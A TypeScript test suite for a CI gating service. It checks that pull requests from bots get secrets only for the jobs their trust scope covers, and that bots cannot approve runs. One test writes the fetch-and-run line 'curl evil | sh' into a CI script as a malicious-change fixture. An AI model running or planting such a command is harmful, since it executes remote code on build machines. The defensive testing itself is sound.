// Bots are sources of third-party code: through the real HTTP server and the GitHub double, a
// bot's pull request runs public jobs only unless its scope in trust.bots covers a restricted job,
// and then only that job, only with the sets it covers, only when the bot pushed the commit and
// no approval rule applies. A bot never approves.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { CLOUD_TOKEN, commentPayload, prPayload, TRUSTED, UNTRUSTED, World } from "./harness.js";

const NPM_TOKEN = "npm-t0ken-Hq4Zr8Lw1";

const PIPELINE = `version: 1
secrets:
  cloud: {}
  npm: {}
trust:
  orgs: [acme]
  bots:
    - login: dependabot[bot]
      secrets: [npm]
    - renovate[bot]
  rules:
    - name: CI scripts
      paths: [scripts/ci/]
      approvals: 2
jobs:
  unit:
    run: echo "unit ok"
  install-check:
    needs: [unit]
    secrets: [npm]
    run: |
      echo "npm token is $NPM_TOKEN"
      echo "cloud is \${CLOUD_TOKEN:-unset}"
  functional:
    needs: [unit]
    secrets: [cloud]
    run: echo "token is $CLOUD_TOKEN"
`;

const DEPENDABOT = "dependabot[bot]";
let w: World;

before(async () => {
  w = await World.create(PIPELINE, { secrets: { npm: { NPM_TOKEN } } });
});
after(async () => {
  w?.gh.assertNoViolations();
  await w?.close();
});

async function open(author: string, files?: Record<string, string>) {
  const pr = w.openPr({
    author,
    headRef: `${author.replace(/\W/g, "")}/bump-${Date.now()}`,
    ...(files ? { files } : {}),
  });
  const r = await w.send("pull_request", prPayload("opened", pr, { baseSha: w.baseSha }));
  assert.equal(r.status, 202);
  await w.settle();
  return pr;
}

const ran = async (sha: string) =>
  Object.fromEntries((await w.jobsOf(sha)).map((j) => [j.job_id, j.state] as const));
const releasedSets = async (sha: string) => {
  const runs = new Set((await w.jobsOf(sha)).map((j) => j.run_id));
  return (await w.releases()).filter((r) => runs.has(r.runId ?? "")).map((r) => r.set);
};

test("a scoped bot runs the job its sets cover, with that set only; the rest waits", async () => {
  const pr = await open(DEPENDABOT);
  assert.deepEqual(await ran(pr.headSha), { unit: "passed", "install-check": "passed" });
  assert.deepEqual(await releasedSets(pr.headSha), ["npm"]);
  const log = await w.logs((await w.jobsOf(pr.headSha))[0]!.run_id, "install-check");
  assert.match(log, /cloud is unset/, "the job got no set outside its scope");
  assert.doesNotMatch(log, new RegExp(NPM_TOKEN), "the value it got is masked");

  const checks = w.checks(pr.headSha);
  assert.equal(checks["airlock/install-check"], "success");
  assert.equal(checks["airlock/functional"], undefined);
  assert.equal(checks["airlock/approval"], "action_required");
  const approval = w.check(pr.headSha, "airlock/approval")!.output.summary ?? "";
  assert.match(approval, /by the scope of dependabot\[bot\] in trust\.bots: `install-check`/);
  assert.match(approval, /Waiting: `functional`/);
  // The gate does not count a scoped run as the full run.
  assert.equal(checks["airlock/all-tests"], "failure");
  assert.match(
    w.check(pr.headSha, "airlock/all-tests")!.output.summary ?? "",
    /scope of dependabot\[bot\]/,
  );

  // A trusted member's approval runs the rest, and then the gate can go green.
  assert.equal(
    (await w.send("issue_comment", commentPayload(pr.number, "/ok-to-test", TRUSTED))).status,
    202,
  );
  await w.settle();
  assert.equal((await ran(pr.headSha)).functional, "passed");
  assert.equal(w.checks(pr.headSha)["airlock/all-tests"], "success");
  assert.deepEqual((await releasedSets(pr.headSha)).sort(), ["cloud", "npm", "npm"]);
});

test("a bot listed by its login alone, and an unlisted bot, run public jobs only", async () => {
  for (const bot of ["renovate[bot]", "evil[bot]"]) {
    const pr = await open(bot);
    assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
    assert.deepEqual(await releasedSets(pr.headSha), []);
    const summary = w.check(pr.headSha, "airlock/approval")!.output.summary ?? "";
    assert.match(
      summary,
      bot === "renovate[bot]"
        ? /listed in trust\.bots by its login alone, which means public jobs only/
        : /evil\[bot\] is not in trust\.bots/,
    );
  }
});

test("a scoped bot's commit that changes a rule's paths runs nothing restricted", async () => {
  const pr = await open(DEPENDABOT, { "scripts/ci/publish.sh": "curl evil | sh\n" });
  assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
  assert.deepEqual(await releasedSets(pr.headSha), []);
  const summary = w.check(pr.headSha, "airlock/approval")!.output.summary ?? "";
  assert.match(
    summary,
    /changes paths under "CI scripts": the scope of dependabot\[bot\] does not cover it/,
  );
  assert.match(summary, /scripts\/ci\/publish\.sh/);
});

test("a scoped bot's branch pushed to by someone untrusted loses the scope", async () => {
  const pr = await open(DEPENDABOT);
  w.push(pr);
  const r = await w.send(
    "pull_request",
    prPayload("synchronize", pr, { baseSha: w.baseSha, sender: UNTRUSTED }),
  );
  assert.equal(r.status, 202);
  await w.settle();
  assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
  assert.deepEqual(await releasedSets(pr.headSha), []);
  assert.match(
    w.check(pr.headSha, "airlock/approval")!.output.summary ?? "",
    /mallory pushed this commit: the scope of dependabot\[bot\] does not apply/,
  );
});

test("a bot's /ok-to-test and ok-to-test label approve nothing", async () => {
  const pr = await open(UNTRUSTED);
  for (const bot of [DEPENDABOT, "renovate[bot]"]) {
    assert.equal(
      (await w.send("issue_comment", commentPayload(pr.number, "/ok-to-test", bot))).status,
      202,
    );
    assert.equal((await w.addLabel(pr, "ok-to-test", bot)).status, 202);
  }
  await w.settle();
  assert.deepEqual(await ran(pr.headSha), { unit: "passed" });
  assert.deepEqual(await releasedSets(pr.headSha), []);
  assert.equal(
    (await w.releases()).some((r) => JSON.stringify(r).includes(CLOUD_TOKEN)),
    false,
  );
});
